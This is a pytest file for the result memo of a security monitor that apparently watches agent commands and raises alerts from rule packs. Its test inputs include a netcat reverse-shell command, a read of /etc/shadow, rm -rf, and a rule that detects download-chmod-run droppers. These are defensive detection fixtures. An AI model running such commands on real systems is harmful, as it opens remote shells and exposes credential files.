"""The memo of pure rule answers per action text (``monitor/memo.py``): bounded, keyed on
every field a pure rule reads, never answering for state or for fields outside its key,
the same alerts with and without it, and safe when monitors on several threads share it."""

from __future__ import annotations

import textwrap
import threading
from typing import Any

import pytest

from corral.events import CodeAction, ExecAction, FileAction, NetAction, SpawnAction
from corral.monitor import Monitor, load_text
from corral.monitor.evaluate import load_corpus, static_command_events
from corral.monitor.memo import MAX_ARGV, MAX_KEY_CHARS, Memo, memo_key
from corral.monitor.rules import RuleIndex

from .corpus_alerts import CORPUS_DIR
from .helpers import T0, Clock, Feed, rules_of


def _private(mon: Monitor, memo: Memo | None = None) -> Monitor:
    """``mon`` on an index of its own (the shared one keeps its memo), with ``memo``."""
    mon.index = RuleIndex(mon.rules)
    if memo is not None:
        mon.index.memo = memo
    return mon


def _rows(mon: Monitor) -> list[list[Any]]:
    return [
        [a.rule, a.session, a.summary, a.count, [e.description for e in a.evidence]]
        for a in mon.alerts()
    ]


def make(yaml_text: str, **kw: Any) -> Monitor:
    pack = load_text(textwrap.dedent(yaml_text))
    return _private(Monitor(packs=[pack], baseline=False, **kw))


# ----------------------------------------------------------------------------- bounds


def test_memo_is_bounded_in_entries_and_characters() -> None:
    memo = Memo(max_entries=8, max_chars=10_000)
    for i in range(100):
        memo.put(("k", i), i, 10)
        assert len(memo) <= 8
    assert memo.get(("k", 0)) is None  # the oldest went first
    assert memo.get(("k", 99)) == 99
    big = Memo(max_entries=1000, max_chars=4096)
    for i in range(100):
        big.put(("k", i), i, 1000)
        assert big.chars <= 4096
    assert 1 <= len(big) <= 4
    big.put(("huge",), 1, 10_000)  # larger than the whole budget: not kept
    assert big.get(("huge",)) is None


def test_memo_keeps_what_was_used_recently() -> None:
    memo = Memo(max_entries=3)
    for i in range(3):
        memo.put((i,), i, 1)
    assert memo.get((0,)) == 0  # used: the least recently used is now 1
    memo.put((3,), 3, 1)
    assert memo.get((1,)) is None
    assert [memo.get((i,)) for i in (0, 2, 3)] == [0, 2, 3]


# -------------------------------------------------------------------------------- key

ACTIONS: list[tuple[Any, dict[str, Any]]] = [
    (ExecAction(argv=["curl", "-o", "x", "http://h/x"], line="curl -o x http://h/x"),
     {"argv": ["curl", "-o", "y", "http://h/x"], "line": "curl -o y http://h/x"}),
    (SpawnAction(argv=["sh", "-c", "id"], pid=1), {"argv": ["sh", "-c", "id;w"]}),
    (CodeAction(language="shell", code="ls"), {"code": "ls -a", "language": "python"}),
    (FileAction(op="read", path="/etc/shadow"), {"op": "write", "path": "/etc/shadow2"}),
    (NetAction(host="h", port=80, url="http://h/", protocol="http"),
     {"host": "g", "port": 81, "url": "http://h/a", "protocol": "https"}),
]  # fmt: skip


@pytest.mark.parametrize(("action", "changes"), ACTIONS)
def test_key_changes_with_every_field_a_pure_rule_reads(
    action: Any, changes: dict[str, Any]
) -> None:
    got = memo_key("action.requested", True, action)
    assert got is not None
    key = got[0]
    assert memo_key("action.completed", True, action)[0] != key  # type: ignore[index]
    assert memo_key("action.requested", False, action)[0] != key  # type: ignore[index]
    for name, value in changes.items():
        other = action.model_copy(update={name: value})
        assert memo_key("action.requested", True, other)[0] != key, name  # type: ignore[index]


def test_long_and_odd_texts_are_not_remembered() -> None:
    long = "a" * (MAX_KEY_CHARS + 1)
    assert memo_key("t", True, ExecAction(argv=["echo", long])) is None
    assert memo_key("t", True, ExecAction(argv=["echo", "a"], line=long)) is None
    assert memo_key("t", True, ExecAction(argv=["x"] * (MAX_ARGV + 1))) is None
    assert memo_key("t", True, CodeAction(language="shell", code=long)) is None
    assert memo_key("t", True, FileAction(op="read", path=long)) is None
    assert memo_key("t", True, NetAction(host="h", url=long)) is None
    # actions built without validation: values that are not strings are not keys
    assert memo_key("t", True, ExecAction.model_construct(argv=["a", 1], line=None)) is None
    assert memo_key("t", True, ExecAction.model_construct(argv=["a", ["b"]], line=None)) is None
    assert memo_key("t", True, ExecAction.model_construct(argv=("a",), line=None)) is None
    assert memo_key("t", True, NetAction.model_construct(host="h", port=True)) is None


# ------------------------------------------------------------------- never answers for


IMPURE = """
rules:
  - id: rm-in-etc
    title: rm in /etc
    severity: high
    match: {program: rm, cwd: {startswith: /etc}}
  - id: guest-ls
    title: ls from a guest
    severity: medium
    match: {program: ls, data.source: guest}
  - id: rm-env
    title: rm with a marked environment
    severity: medium
    match: {program: rm, env.MARK: "1"}
  - id: three-curls
    title: Three curls
    severity: low
    threshold:
      match: {program: curl}
      count: 3
      within_s: 60
  - id: dropper
    title: Download, chmod, run
    severity: critical
    sequence:
      within_s: 300
      steps:
        - program: [curl, wget]
          args: {regex: '-o\\s*(?P<file>\\S+)'}
        - match: {program: chmod}
          bind: {file: 'argv[-1]'}
        - match: {kind: exec}
          bind: {file: runs}
"""


def test_fields_outside_the_key_are_read_on_every_event() -> None:
    mon = make(IMPURE)
    f = Feed("s1", Clock())
    # the same command text, first where no rule holds (so the memo holds its answer)
    assert mon.observe(f.event(action=ExecAction(argv=["rm", "-rf", "x"]))) == []
    assert mon.observe(f.event(action=ExecAction(argv=["rm", "-rf", "x"]))) == []
    assert mon.index.memo.hits >= 1
    got = mon.observe(f.event(action=ExecAction(argv=["rm", "-rf", "x"], cwd="/etc/ssl")))
    assert rules_of(got) == {"rm-in-etc"}
    got = mon.observe(f.event(action=ExecAction(argv=["rm", "-rf", "x"], env={"MARK": "1"})))
    assert rules_of(got) == {"rm-env"}
    assert mon.observe(f.exec("ls", "-la")) == []
    assert mon.observe(f.exec("ls", "-la")) == []
    guest = f.event(action=ExecAction(argv=["ls", "-la"]), data={"source": "guest"})
    assert rules_of(mon.observe(guest)) == {"guest-ls"}


def test_thresholds_and_sequences_see_every_remembered_text() -> None:
    mon = make(IMPURE)
    clock = Clock()
    f = Feed("s1", clock)
    got = [rules_of(mon.observe(f.exec("curl", "-s", "http://h/"))) for _ in range(3)]
    assert got == [set(), set(), {"three-curls"}]
    for session in ("a", "b"):  # the second session's steps are all remembered texts
        g = Feed(session, clock)
        assert mon.observe(g.exec("curl", "-o", "p", "http://h/p")) == []
        assert mon.observe(g.exec("chmod", "+x", "p")) == []
        assert rules_of(mon.observe(g.exec("./p"))) == {"dropper"}, session


def test_a_remembered_script_still_fires_later_steps_waiting_on_it() -> None:
    mon = make(IMPURE)
    f = Feed("s1", Clock())
    for _ in range(2):  # remembered with nothing waiting; then a partial match waits
        assert mon.observe(f.code("chmod +x p; ./p", "shell")) == []
    assert mon.observe(f.exec("curl", "-o", "p", "http://h/p")) == []
    got = mon.observe(f.code("chmod +x p; ./p", "shell"))
    assert rules_of(got) == {"dropper"}


# ---------------------------------------------------------------- same alerts either way


def _corpus_events() -> list[Any]:
    events: list[Any] = []
    items = [i for i in load_corpus(CORPUS_DIR / "default.jsonl") if i.command is not None]
    for rep in range(2):  # every text twice: the second pass is answered from the memo
        for n, item in enumerate(items):
            assert item.command is not None
            t0 = T0 + (rep * len(items) + n) * 1000
            events.extend(static_command_events(item.command, f"s{rep}-{n}", t0))
    return events


def test_alerts_are_the_same_with_and_without_the_memo() -> None:
    events = _corpus_events()
    with_memo = _private(Monitor(baseline=False))
    without = _private(Monitor(baseline=False), Memo(max_entries=0))
    for ev in events:
        assert [a.rule for a in with_memo.observe(ev)] == [a.rule for a in without.observe(ev)]
    assert with_memo.index.memo.hits > len(events) // 3
    assert without.index.memo.hits == 0
    assert _rows(with_memo) == _rows(without)
    assert len(with_memo.alerts()) > 100


def test_prechecks_answer_the_same_from_the_memo() -> None:
    mon = _private(Monitor(baseline=False))
    action = ExecAction(argv=["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])
    first = mon.precheck(action, "s1")
    again = mon.precheck(action, "s2")
    assert first is not None and again is not None
    assert first.rule == again.rule
    assert mon.index.memo.hits >= 1


# -------------------------------------------------------------------------- threads


def test_monitors_on_threads_share_the_memo_safely() -> None:
    events = _corpus_events()
    expected = _private(Monitor(baseline=False), Memo(max_entries=0))
    for ev in events:
        expected.observe(ev)
    want = _rows(expected)
    index = RuleIndex(expected.rules)
    index.memo = Memo(max_entries=64, max_chars=16_384)  # small: evictions race lookups
    results: dict[int, list[list[Any]]] = {}
    errors: list[BaseException] = []

    def work(i: int) -> None:
        try:
            mon = Monitor(baseline=False)
            mon.index = index
            for ev in events:
                mon.observe(ev)
            results[i] = _rows(mon)
        except BaseException as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=work, args=(i,)) for i in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=600)
    assert not errors
    assert all(results[i] == want for i in range(4))
    assert len(index.memo) <= 64 and index.memo.chars <= 16_384
